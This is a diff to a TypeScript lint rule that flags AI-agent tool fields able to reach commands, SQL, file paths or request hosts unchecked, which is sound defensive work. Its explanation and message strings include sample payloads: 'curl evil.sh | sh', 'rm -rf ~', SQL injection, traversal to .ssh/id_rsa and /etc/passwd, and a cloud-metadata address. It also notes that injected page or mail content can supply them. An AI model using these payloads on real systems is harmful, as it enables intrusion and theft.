@@ -21,18 +21,19 @@ export const unboundedSink: Rule = {
   scope: 'tool',
   meta: {
     code: 'unbounded-sink',
-    title: 'Any text of the model becomes a part of a command',
+    title: 'Any text of the model is put in a command, path or address',
     category: 'correctness',
     severity: 'warning',
     fixable: false,
     what:
       'A text field without `enum`, `pattern` or a format becomes a part of a command, an SQL text or a path that the handler builds ' +
-      'around it. Where the field is the whole command, statement or path, the tool is made for that, and nothing is ' +
+      'around it, or decides to which host a request goes: it is the beginning of its address, a part of the host, or the first argument ' +
+      'of `new URL` with a base. What is put behind a host that is written out is left alone. Where the field is the whole command, statement, path or address, the tool is made for that, and nothing is ' +
       'reported. Read from the text of the handler. A handler that calls anything that looks like a check (`isAllowed`, `escape`, ' +
       '`startsWith`) is not judged.',
     why:
       'What the model sends may come from a page or a mail that it has read. `main; curl evil.sh | sh` is then run, and ' +
-      '`../../.ssh/id_rsa` is read.',
+      '`../../.ssh/id_rsa` is read. A request that goes to another host takes its token along, or reaches what only the server can.',
     remedy:
       'Bound the field in the schema: an enum, or a pattern such as `z.string().regex(/^[\\w.-]+$/)`. And hand the value over apart: ' +
       '`execFile` with a list of arguments, a parameter of the query.',
@@ -56,7 +57,9 @@ export const unboundedSink: Rule = {
         message: [
           `Bound \`${inline(field, 40)}\` of '${toolLabel(tool)}': any text becomes part of ${PART[takes]}.`,
           `The handler hands it to ${inline(called, 60)}, and the schema accepts every string, such as ${SUCH[takes]}.`,
-          'Give it an enum or a pattern, and hand it over apart from the text around it.',
+          isAddress(takes)
+            ? 'Give it an enum or a pattern, or put it behind a host that is written out.'
+            : 'Give it an enum or a pattern, and hand it over apart from the text around it.',
         ].join('\n'),
         at: { fields: schemaFields(tool), path: [field] },
         path: [field],
@@ -70,11 +73,19 @@ const PART: Readonly<Record<HandlerSink['takes'], string>> = {
   command: 'a command',
   sql: 'an SQL text',
   path: 'a path',
+  address: 'the host of a request',
+  host: 'the host of a request',
 }
 const SUCH: Readonly<Record<HandlerSink['takes'], string>> = {
   command: '; rm -rf ~',
   sql: "' OR 1=1 --",
   path: '../../../etc/passwd',
+  address: 'http://169.254.169.254',
+  host: 'evil.example/',
+}
+
+function isAddress(takes: HandlerSink['takes']): boolean {
+  return takes === 'address' || takes === 'host'
 }
 
 /** Texts with another format than an address are bounded by it. */
